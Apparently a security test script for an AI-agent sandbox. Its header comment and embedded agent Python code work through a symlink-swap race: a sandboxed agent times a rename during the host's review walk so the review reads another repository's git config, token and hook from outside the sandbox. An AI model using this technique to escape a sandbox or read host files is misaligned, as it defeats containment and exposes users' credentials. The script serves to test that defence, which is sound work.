#!/bin/bash
# 12: what the sandbox can make review's host walk read. Review's walk for
# .git entries (dotGits, direct_walk.go) opens each directory by its full
# path with O_NOFOLLOW on the last component only, and liveMeta reads a
# found .git through OSMetaFS{Dir: that path}, whose noLinkedParents
# checks only the components below Dir. The agent makes x/ with 20,000
# empty subdirectories and x/victim; while review walks x/ (it listed x's
# entries, ~1 s of empty directories to go before victim) the agent
# renames x away and puts a symlink x -> a host path in its place (a
# symlink's target is only a string to the gate). The walk then opens
# x/victim on the host through the symlink: a directory outside the folder
# (here $T/outside/victim, a stand-in for the user's other repository;
# the agent needs only its path). Its .git config and hooks are read and
# shown in the review as the folder's. The take-away is timed by the
# harness (0.3 s after review began). Got through = the review shows the
# outside repository's hook content in 1 or more of 3 reviews.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/common.sh"
OUT=$T/outside; mkdir -p "$OUT/victim/.git/hooks" "$OUT/victim/.git/objects" "$OUT/victim/.git/refs"
echo 'ref: refs/heads/main' > "$OUT/victim/.git/HEAD"
printf '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://host-only-token-3f9a@example.invalid/r.git\n' > "$OUT/victim/.git/config"
printf '#!/bin/sh\necho HOST-ONLY-HOOK-7c21\n' > "$OUT/victim/.git/hooks/pre-commit"
git init -q "$T/repo" && cd "$T/repo" || exit 2
mkdir src && echo 'x = 1' > src/a.py && echo '# p' > README.md
write_sandbox direct; up_sandbox
export SETTLE=6 HIDE_DELAY=${HIDE_DELAY-0.3}
start_agent '
x = "/workspace/x"; out = "'"$OUT"'"
def setup():
    for i in range(20000): os.makedirs(x + "/a%05d" % i)
    os.mkdir(x + "/victim")
def hide(k): os.rename(x, x + ".real"); os.symlink(out, x)
def show(k): os.unlink(x); os.rename(x + ".real", x)
'
live() { test -d x/victim -a ! -L x; }
caught() { ! grep -q 'HOST-ONLY-HOOK-7c21\|host-only-token' "$T/review.json"; }
caught_note() { grep -o '"path": *"[^"]*victim[^"]*"' "$T/review.json" | sort -u | head -3 | tr '\n' ' '; }
rounds 3 live
verdict noquiet
finish
